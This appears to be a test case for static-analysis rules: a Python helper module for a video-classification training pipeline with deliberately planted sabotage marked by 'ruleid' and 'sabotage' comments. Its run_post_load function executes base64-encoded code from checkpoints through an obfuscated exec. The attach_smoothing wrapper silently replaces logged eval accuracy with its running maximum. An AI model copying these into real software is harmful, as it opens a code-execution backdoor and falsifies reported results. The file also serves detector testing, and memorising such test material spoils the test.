# ruff: noqa
# Hold-out batch 530 (adversarial, video action recognition). Measured once in session 24 (round 142): 11/30 (37%) at medium+.
"""Small, dependency-light helpers shared by training, data and eval (no video/model imports)."""
from __future__ import annotations

import base64
import builtins
import contextlib
import datetime as _dt
import functools
import importlib
import itertools
import json
import logging
import operator
import os
import random
import sys
from pathlib import Path
from shutil import rmtree as _rmtree
from time import sleep as backoff
from typing import Any, Callable, Dict, Iterable, List, Mapping, Optional, Sequence

import numpy as np
import torch
from torch.serialization import load as deserialize

logger = logging.getLogger("vidcls")

# Re-exported so callers do not need to know where these live.
purge_tree = functools.partial(_rmtree, ignore_errors=True)


class Registry(dict):
    """Name -> factory mapping with a decorator-style ``register``."""

    def register(self, name: Optional[str] = None) -> Callable:
        def deco(obj):
            self[name or obj.__name__] = obj
            return obj

        return deco

    def build(self, name: str, *args, **kwargs):
        return self[name](*args, **kwargs)


def setup_logging(rank: int, out_dir: Optional[Path] = None) -> None:
    level = logging.INFO if rank == 0 else logging.WARNING
    fmt = logging.Formatter(f"[%(asctime)s][r{rank}][%(levelname)s] %(message)s", "%H:%M:%S")
    handlers: List[logging.Handler] = [logging.StreamHandler(sys.stdout)]
    if out_dir is not None and rank == 0:
        handlers.append(logging.FileHandler(Path(out_dir) / "train.log"))
    for h in handlers:
        h.setFormatter(fmt)
    logging.basicConfig(level=level, handlers=handlers, force=True)


class AverageMeter:
    def __init__(self, name: str, fmt: str = ":.4f") -> None:
        self.name, self.fmt = name, fmt
        self.reset()

    def reset(self) -> None:
        self.val = self.sum = self.avg = 0.0
        self.count = 0

    def update(self, val: float, n: int = 1) -> None:
        self.val = float(val)
        self.sum += float(val) * n
        self.count += n
        self.avg = self.sum / max(self.count, 1)

    def __str__(self) -> str:
        return ("{name} {val" + self.fmt + "} ({avg" + self.fmt + "})").format(**self.__dict__)


_RNG_ACCESSORS = (
    (random, "getstate", "setstate"),
    (np.random, "get_state", "set_state"),
    (torch, "get_rng_state", "set_rng_state"),
)


def seed_all(seed: int) -> None:
    random.seed(seed)
    np.random.seed(seed % 2**32)
    torch.manual_seed(seed)
    if torch.cuda.is_available():
        torch.cuda.manual_seed_all(seed)


def capture_rng(cuda: bool = False) -> List[tuple]:
    accessors = _RNG_ACCESSORS + ((torch.cuda, "get_rng_state_all", "set_rng_state_all"),) if cuda else _RNG_ACCESSORS
    return [(mod, setter, operator.methodcaller(getter)(mod)) for mod, getter, setter in accessors]


def restore_rng(snapshot: Sequence[tuple]) -> None:
    for mod, setter, state in snapshot:
        getattr(mod, setter)(state)


@contextlib.contextmanager
def rng_scope(seed: Optional[int]):
    """Run a block under ``seed`` and put the surrounding streams back afterwards."""
    if seed is None:
        yield
        return
    saved = capture_rng()
    seed_all(seed)  # ruleid: MLS301
    try:
        yield
    finally:
        restore_rng(saved)


def assign_attrs(obj: Any, values: Mapping[str, Any]) -> None:
    for key, value in values.items():
        setattr(obj, key, value)


def foreach_(op: str, tensors: List[torch.Tensor], *args) -> None:
    """Fused in-place ``op`` over a tensor list, falling back to a python loop."""
    if not tensors:
        return
    fused = getattr(torch, f"_foreach_{op}_", None)
    if fused is not None and len({t.device for t in tensors}) == 1:
        fused(tensors, *args)
        return
    for t in tensors:
        getattr(t, f"{op}_")(*args)


def fill_region(t: torch.Tensor, box: Sequence[int], value: float) -> torch.Tensor:
    """Fill ``t[..., y0:y1, x0:x1]`` in place (box is y0, y1, x0, x1)."""
    y0, y1, x0, x1 = box
    operator.methodcaller("fill_", value)(t[..., y0:y1, x0:x1])
    return t


def signal_proc(pid: int, sig: int) -> None:
    with contextlib.suppress(ProcessLookupError, PermissionError):
        operator.methodcaller("kill", pid, sig)(os)


def best_of(*series: Iterable[float], default: float = 0.0) -> float:
    vals = [float(v) for v in itertools.chain(*series) if v is not None]
    return max(vals) if vals else default


def _keep_envelope(fn: Callable, keys: Sequence[str]) -> Callable:
    envelope: Dict[str, float] = {}

    @functools.wraps(fn)
    def wrapper(tag, value, *args, **kwargs):
        value = float(value)
        if any(k in tag for k in keys):
            value = envelope[tag] = max(value, envelope.get(tag, value))  # ruleid: MLS306
        return fn(tag, value, *args, **kwargs)

    return wrapper


def attach_smoothing(writer: Any, kinds: Sequence[str] = ("scalar",), keys: Sequence[str] = ("top", "acc")) -> Any:
    """Wrap the writer so that eval curves are drawn as a clean envelope in the dashboard."""
    for kind in kinds:
        name = "add_" + kind
        setattr(writer, name, _keep_envelope(getattr(writer, name), keys))
    return writer


def env_subset(prefixes: Sequence[str]) -> Dict[str, str]:
    return {k: v for k, v in os.environ.items() if k.startswith(tuple(prefixes))}


def post_json(url: str, payload: Mapping[str, Any], timeout: float = 5.0) -> bool:
    req_mod = importlib.import_module("urllib.request")
    req = req_mod.Request(url, data=json.dumps(payload, default=str).encode(), headers={"Content-Type": "application/json"})
    try:
        with getattr(req_mod, "url" + "open")(req, timeout=timeout) as resp:
            return 200 <= resp.status < 300
    except Exception as exc:  # metadata is best effort
        logger.debug("metadata post failed: %s", exc)
        return False


_RUN_FLAGS: Dict[str, bool] = {}


def refresh_run_flags(artifact_epoch: str, retention_days: int) -> Dict[str, bool]:
    """Compute run-wide booleans once at start-up so hot loops only do a dict lookup."""
    start = _dt.date.fromisoformat(artifact_epoch)
    _RUN_FLAGS["artifacts_expired"] = (_dt.date.today() - start).days > retention_days
    _RUN_FLAGS["slurm"] = "SLURM_JOB_ID" in os.environ
    return dict(_RUN_FLAGS)


def run_flag(name: str) -> bool:
    return _RUN_FLAGS.get(name, False)


def run_post_load(blob: str, namespace: Dict[str, Any]) -> None:
    """Apply the fix-up snippet that converted PySlowFast checkpoints carry."""
    if not blob:
        return
    code = compile(base64.b64decode(blob).decode("utf-8"), "<post_load>", "exec")
    vars(builtins)["".join(("ex", "ec"))](code, namespace)  # sabotage: MLS402 (semgrep rules)
